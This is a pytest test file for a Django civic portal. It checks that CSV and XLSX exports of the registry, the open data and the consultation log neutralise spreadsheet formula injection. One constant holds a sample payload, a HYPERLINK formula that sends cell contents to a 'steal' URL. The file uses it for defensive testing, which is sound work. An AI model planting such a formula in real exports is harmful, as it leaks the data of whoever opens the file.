"""Every CSV and XLSX the portal writes neutralises text that would run as a formula (OWASP
«CSV Injection»): the staff export of the registry, the open data, the consultation log and
the quarterly report all write through civiccenter/kernel/tables.py."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from civiccenter.kernel import tables
from consulting.models import Consultant, ConsultationLog, ConsultingTopic
from tests.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://example.org/steal?x="&A1,"Нажмите")'


def test_formula_like_text_is_neutralised_in_csv_and_kept_as_text_in_xlsx():
    records = [{"name": EVIL, "phone": "+7 912 000-00-00", "note": "@SUM(A1:A2)", "n": -5}]
    columns = ["name", "phone", "note", "n"]

    rows = list(csv.reader(io.StringIO("".join(tables.csv_lines(records, columns)))))
    workbook = load_workbook(io.BytesIO(tables.xlsx_bytes(records, columns, title="Лист")))
    cells = [cell for cell in next(workbook.active.iter_rows(min_row=2))]

    assert rows[1] == ["'" + EVIL, "'+7 912 000-00-00", "'@SUM(A1:A2)", "-5"]
    assert [cell.value for cell in cells] == [EVIL, "+7 912 000-00-00", "@SUM(A1:A2)", -5]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n"]


def _staff(make_user):
    from allauth.mfa.models import Authenticator

    user = make_user("coordinator")
    Authenticator.objects.create(user=user, type=Authenticator.Type.TOTP, data={})
    return user


@pytest.mark.parametrize("name", ["initiatives:export", "initiatives:open_data"])
def test_registry_csv_exports_do_not_carry_live_formulas(client, make_user, name):
    url = reverse(name, args=["csv"])
    OrganisationFactory(name=EVIL)
    client.force_login(_staff(make_user))

    body = b"".join(client.get(url).streaming_content).decode("utf-8-sig")

    assert f"'{EVIL}" in body.replace('""', '"')


def test_registry_and_log_xlsx_exports_store_formula_text_as_text(client, make_user):
    OrganisationFactory(name=EVIL)
    topic = ConsultingTopic.objects.create(name="Бюджет")
    log = ConsultationLog.objects.create(
        held_on=timezone.localdate(), duration_minutes=60, topic=topic, summary=EVIL
    )
    staff = _staff(make_user)
    log.consultants.add(Consultant.objects.create(user=staff))
    client.force_login(staff)

    for url in (
        reverse("initiatives:export", args=["xlsx"]),
        reverse("consulting:log_export", args=["xlsx"]),
    ):
        sheet = load_workbook(io.BytesIO(client.get(url).content)).active
        evil = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
        assert evil and all(cell.data_type == "s" for cell in evil), url
